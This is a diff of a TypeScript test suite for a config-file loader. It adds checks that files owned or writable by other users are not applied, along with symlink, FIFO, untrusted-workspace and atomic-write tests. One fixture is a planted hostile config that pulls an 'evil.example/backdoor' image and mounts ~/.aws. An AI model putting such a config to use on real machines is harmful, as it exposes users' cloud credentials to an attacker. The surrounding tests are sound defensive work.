@@ -3,7 +3,17 @@ import assert from 'node:assert/strict';
 import * as fs from 'node:fs';
 import * as os from 'node:os';
 import * as path from 'node:path';
-import { findProjectConfig, loadConfig } from '../../extension/src/config/files';
+import { execFileSync } from 'node:child_process';
+import {
+  findProjectConfig,
+  isPrivateGroup,
+  loadConfig,
+  nodeConfigFs,
+  writeConfigFile,
+  type ConfigFs,
+  type FileOwner,
+  type LoadConfigOptions,
+} from '../../extension/src/config/files';
 
 const NAME = '.toolbox.yaml';
 
@@ -60,28 +70,31 @@ describe('config files on disk', () => {
       assert.equal(findProjectConfig(home, home), undefined);
     });
 
-    it('walks outside HOME up to the filesystem root', () => {
-      const file = write(`outside/${NAME}`, 'pull: never\n');
+    it("outside HOME reads only the folder's own file, never a parent directory's (issue 11, finding 5)", () => {
+      const parent = write(`outside/${NAME}`, 'pull: never\n');
       try {
-        assert.equal(findProjectConfig(path.join(root, 'outside/x/y'), home), file);
+        assert.equal(findProjectConfig(path.join(root, 'outside/x/y'), home), undefined, `${parent} is not the folder's`);
+        const own = write(`outside/x/y/${NAME}`, 'pull: always\n');
+        assert.equal(findProjectConfig(path.join(root, 'outside/x/y'), home), own);
       } finally {
         cleanFrom(`outside/${NAME}`);
+        cleanFrom(`outside/x/y/${NAME}`);
       }
     });
 
-    it('ends at / and returns nothing when no directory on the way has the file', () => {
-      const bare = fs.mkdtempSync(path.join(os.tmpdir(), 'tbx-config-bare-'));
+    it('outside HOME and without HOME, a folder without the file has no project file', () => {
+      assert.equal(findProjectConfig(path.join(root, 'outside/x/y'), home), undefined);
+      assert.equal(findProjectConfig(path.join(root, 'outside/x/y'), ''), undefined);
+      assert.equal(findProjectConfig('/', home), fs.existsSync(`/${NAME}`) ? `/${NAME}` : undefined);
+    });
+
+    it('a sibling of HOME that shares its name as a prefix is outside HOME', () => {
+      const sibling = dir('home2/p');
+      const above = write(`home2/${NAME}`, 'pull: never\n');
       try {
-        const ancestors: string[] = [];
-        for (let d = bare; ; d = path.dirname(d)) {
-          ancestors.push(d);
-          if (path.dirname(d) === d) break;
-        }
-        const expected = ancestors.map((d) => path.join(d, NAME)).find((f) => fs.existsSync(f) && fs.statSync(f).isFile());
-        assert.equal(findProjectConfig(bare, home), expected); // undefined on a clean machine
-        assert.equal(findProjectConfig('/', home), fs.existsSync(`/${NAME}`) ? `/${NAME}` : undefined);
+        assert.equal(findProjectConfig(sibling, home), undefined, `${above} is above the folder, outside HOME`);
       } finally {
-        fs.rmSync(bare, { recursive: true, force: true });
+        cleanFrom(`home2/${NAME}`);
       }
     });
 
@@ -155,6 +168,232 @@ describe('config files on disk', () => {
       const r = await load(dir('big-home/w'), true, big);
       assert.deepEqual(r.files, []);
       assert.match(r.issues[0]!.message, /more than the 1048576 a config file may have/);
+    });
+  });
+
+  // Issue 11, finding 5: a config file someone else controls is never applied.
+  describe('files the user does not control', { skip: process.getuid?.() !== 0 ? 'chown needs root' : false }, () => {
+    const OTHER_UID = 12345;
+    const OTHER_GID = 12346;
+    const load = (folder: string, h: string, options: Partial<LoadConfigOptions> = {}) =>
+      loadConfig({ folder, home: h, env: {}, settings: {}, trusted: true, ...options });
+    const me = (uid: number, privateGid?: number): FileOwner => ({ uid, groupIsPrivate: (g) => g === privateGid });
+    let n = 0;
+    /** A fresh home with its own ~/.toolbox.yaml, and a folder outside it. */
+    const fresh = () => {
+      const h = dir(`owners-${++n}/home`);
+      fs.writeFileSync(path.join(h, NAME), 'image: user:1\n', { mode: 0o644 });
+      fs.chmodSync(path.join(h, NAME), 0o644);
+      return { h, folder: dir(`owners-${n}/srv/x/proj`), srv: path.join(root, `owners-${n}/srv`) };
+    };
+    const plant = (file: string, text: string, uid: number, gid: number, mode: number) => {
+      fs.writeFileSync(file, text);
+      fs.chownSync(file, uid, gid);
+      fs.chmodSync(file, mode);
+      return file;
+    };
+    const EVIL = 'image: evil.example/backdoor:1\nmounts:\n  - {name: aws, source: ~/.aws, target: .aws}\n';
+
+    it("applies no file another user planted in a parent directory outside HOME (the finding's attack)", async () => {
+      const { h, folder, srv } = fresh();
+      plant(path.join(srv, NAME), EVIL, OTHER_UID, OTHER_GID, 0o644);
+      const r = await load(folder, h);
+      assert.equal(r.config.image, 'user:1');
+      assert.deepEqual(r.config.mounts, []);
+      assert.deepEqual(r.files, [path.join(h, NAME)]);
+    });
+
+    it("skips the folder's own file when another user owns it, and says so naming the file and why", async () => {
+      const { h, folder } = fresh();
+      const file = plant(path.join(folder, NAME), EVIL, OTHER_UID, OTHER_GID, 0o644);
+      const r = await load(folder, h);
+      assert.equal(r.config.image, 'user:1');
+      assert.deepEqual(r.config.mounts, []);
+      assert.deepEqual(r.files, [path.join(h, NAME)]);
+      assert.equal(r.issues.length, 1);
+      const issue = r.issues[0]!;
+      assert.equal(issue.severity, 'warning');
+      assert.equal(issue.fileSkipped, true);
+      assert.equal(issue.source, file);
+      assert.match(issue.message, /^is owned by another user \(uid 12345\), so its settings are not applied/);
+    });
+
+    it('skips ~/.toolbox.yaml when another user owns it', async () => {
+      const { h, folder } = fresh();
+      plant(path.join(h, NAME), EVIL, OTHER_UID, OTHER_GID, 0o644);
+      const r = await load(folder, h);
+      assert.equal(r.config.image, undefined);
+      assert.deepEqual(r.files, []);
+      assert.match(r.issues[0]!.message, /owned by another user \(uid 12345\)/);
+    });
+
+    it("skips a file writable by a group that is not the user's private group", async () => {
+      const { h, folder } = fresh();
+      const file = plant(path.join(folder, NAME), EVIL, 0, OTHER_GID, 0o664);
+      const r = await load(folder, h, { owner: me(0, 0) });
+      assert.equal(r.config.image, 'user:1');
+      assert.equal(r.issues[0]!.source, file);
+      assert.match(r.issues[0]!.message, /is writable by group 12346 \(mode 0664\).*Run chmod g-w on it\.$/);
+    });
+
+    it("accepts a group-writable file in the user's private group (umask 002 on Debian and Ubuntu)", async () => {
+      const { h, folder } = fresh();
+      plant(path.join(folder, NAME), 'image: mine:1\n', 0, OTHER_GID, 0o664);
+      const r = await load(folder, h, { owner: me(0, OTHER_GID) });
+      assert.equal(r.config.image, 'mine:1');
+      assert.deepEqual(r.issues, []);
+    });
+
+    it('skips a world-writable file, even one the user owns in a private group', async () => {
+      const { h, folder } = fresh();
+      plant(path.join(folder, NAME), EVIL, 0, OTHER_GID, 0o666);
+      const r = await load(folder, h, { owner: me(0, OTHER_GID) });
+      assert.equal(r.config.image, 'user:1');
+      assert.match(r.issues[0]!.message, /is writable by every user on this machine \(mode 0666\).*Run chmod o-w on it\.$/);
+    });
+
+    it("accepts the user's own file and a root-owned one, refuses another non-root user's (for a non-root user)", async () => {
+      const user = 4242;
+      for (const [owner, applied] of [
+        [user, true],
+        [0, true],
+        [user + 1, false],
+      ] as const) {
+        const { h, folder } = fresh();
+        fs.chownSync(path.join(h, NAME), user, user);
+        plant(path.join(folder, NAME), 'image: project:1\n', owner, owner, 0o644);
+        const r = await load(folder, h, { owner: me(user) });
+        assert.equal(r.config.image, applied ? 'project:1' : 'user:1', `a project file owned by uid ${owner}`);
+      }
+    });
+
+    it('checks the file a symlink points to, not the link', async () => {
+      const { h, folder } = fresh();
+      const target = plant(path.join(root, `owners-${n}/theirs.yaml`), EVIL, OTHER_UID, OTHER_GID, 0o644);
+      fs.symlinkSync(target, path.join(folder, NAME));
+      const r = await load(folder, h);
+      assert.equal(r.config.image, 'user:1');
+      assert.match(r.issues[0]!.message, /owned by another user/);
+    });
+  });
+
+  describe('what is opened', () => {
+    /** node:fs, recording every file the loader opens. */
+    const recording = () => {
+      const opened: string[] = [];
+      const recorder: ConfigFs = {
+        isFile: (p) => nodeConfigFs.isFile(p),
+        read: (p, owner) => {
+          opened.push(p);
+          return nodeConfigFs.read(p, owner);
+        },
+      };
+      return { opened, recorder };
+    };
+
+    it('never opens the project file of an untrusted workspace, not even to discard it', async () => {
+      const project = write(`home/a/${NAME}`, 'image: project:1\n');
+      try {
+        const { opened, recorder } = recording();
+        const r = await loadConfig({ folder: path.join(home, 'a/b/c'), home, env: {}, settings: {}, trusted: false, fs: recorder });
+        assert.deepEqual(opened, [path.join(home, NAME)], 'only the user file is opened');
+        assert.equal(r.projectFileIgnored, true);
+        assert.equal(r.config.image, 'user:1');
+        const trusted = recording();
+        await loadConfig({ folder: path.join(home, 'a/b/c'), home, env: {}, settings: {}, trusted: true, fs: trusted.recorder });
+        assert.deepEqual(trusted.opened, [path.join(home, NAME), project], 'the recorder sees a project file that is read');
+      } finally {
+        cleanFrom(`home/a/${NAME}`);
+      }
+    });
+
+    it('does not hang on a FIFO where ~/.toolbox.yaml should be, and says it is not a regular file', async () => {
+      const fifoHome = dir('fifo-home');
+      execFileSync('mkfifo', [path.join(fifoHome, NAME)]);
+      const loaded = loadConfig({ folder: dir('fifo-home/w'), home: fifoHome, env: {}, settings: {}, trusted: true });
+      let timer: NodeJS.Timeout | undefined;
+      const timeout = new Promise<never>((_, reject) => {
+        timer = setTimeout(() => reject(new Error('loadConfig blocked on the FIFO')), 3000);
+      });
+      try {
+        const r = await Promise.race([loaded, timeout]);
+        assert.deepEqual(r.files, []);
+        assert.match(r.issues[0]!.message, /is not a regular file/);
+      } finally {
+        clearTimeout(timer);
+        // Unblock a reader stuck on the FIFO (the old code), so the test process can end.
+        fs.promises
+          .open(path.join(fifoHome, NAME), fs.constants.O_WRONLY | fs.constants.O_NONBLOCK)
+          .then((h) => h.close())
+          .catch(() => undefined);
+      }
+    });
+  });
+
+  describe('isPrivateGroup', () => {
+    const user = os.userInfo().username;
+    const files = (group: string, passwd: string) => {
+      const d = fs.mkdtempSync(path.join(root, 'accounts-'));
+      fs.writeFileSync(path.join(d, 'group'), group);
+      fs.writeFileSync(path.join(d, 'passwd'), passwd);
+      return { group: path.join(d, 'group'), passwd: path.join(d, 'passwd') };
+    };
+    it('a group with no other member and no other account using it as primary is private', () => {
+      const f = files(`${user}:x:5000:\nstaff:x:50:a,b\n`, `${user}:x:5000:5000::/h:/bin/sh\n`);
+      assert.equal(isPrivateGroup(5000, 5000, f), true);
+      assert.equal(isPrivateGroup(5000, 5000, files(`${user}:x:5000:${user}\n`, `${user}:x:5000:5000::/h:/bin/sh\n`)), true);
+    });
+    it('not when another user is a member, another account has it as primary group, or it is unknown', () => {
+      assert.equal(isPrivateGroup(50, 5000, files(`staff:x:50:mallory\n`, `${user}:x:5000:50::/h:/bin/sh\n`)), false);
+      assert.equal(
+        isPrivateGroup(100, 5000, files(`users:x:100:\n`, `${user}:x:5000:100::/h:/bin/sh\nbob:x:5001:100::/b:/bin/sh\n`)),
+        false,
+      );
+      assert.equal(isPrivateGroup(777, 5000, files(`users:x:100:\n`, `${user}:x:5000:100::/h:/bin/sh\n`)), false);
+    });
+  });
+
+  describe('writeConfigFile', () => {
+    it('replaces the text atomically, keeping the mode', async () => {
+      const file = write('write/keep/.toolbox.yaml', 'image: a\n');
+      fs.chmodSync(file, 0o600);
+      await writeConfigFile(file, 'image: b\n', 'image: a\n');
+      assert.equal(fs.readFileSync(file, 'utf8'), 'image: b\n');
+      assert.equal(fs.statSync(file).mode & 0o777, 0o600);
+      assert.deepEqual(
+        fs.readdirSync(path.dirname(file)).filter((f) => f.endsWith('.tmp')),
+        [],
+        'no temporary file left behind',
+      );
+    });
+
+    it('creates a missing file 0644', async () => {
+      const file = path.join(dir('write/new'), NAME);
+      await writeConfigFile(file, 'mounts: []\n', undefined);
+      assert.equal(fs.readFileSync(file, 'utf8'), 'mounts: []\n');
+      assert.equal(fs.statSync(file).mode & 0o777, 0o644);
+    });
+
+    it('writes through a symlink to the file it points to', async () => {
+      const real = write('write/dotfiles/toolbox.yaml', 'image: a\n');
+      const link = path.join(dir('write/linked'), NAME);
+      fs.symlinkSync(real, link);
+      await writeConfigFile(link, 'image: b\n', 'image: a\n');
+      assert.equal(fs.lstatSync(link).isSymbolicLink(), true);
+      assert.equal(fs.readFileSync(real, 'utf8'), 'image: b\n');
+    });
+
+    it('refuses to overwrite a file that changed since it was read, or appeared', async () => {
+      const file = write('write/changed/.toolbox.yaml', 'image: edited-meanwhile\n');
+      await assert.rejects(writeConfigFile(file, 'image: b\n', 'image: a\n'), /changed while it was being edited; nothing was written/);
+      await assert.rejects(writeConfigFile(file, 'image: b\n', undefined), /changed while it was being edited/);
+      assert.equal(fs.readFileSync(file, 'utf8'), 'image: edited-meanwhile\n');
+    });
+
+    it('refuses a file another user owns', { skip: process.getuid?.() !== 0 ? 'chown needs root' : false }, async () => {
+      const file = write('write/theirs/.toolbox.yaml', 'image: a\n');
+      fs.chownSync(file, 12345, 12345);
+      await assert.rejects(writeConfigFile(file, 'image: b\n', 'image: a\n'), /is owned by another user \(uid 12345\)/);
     });
   });
 });
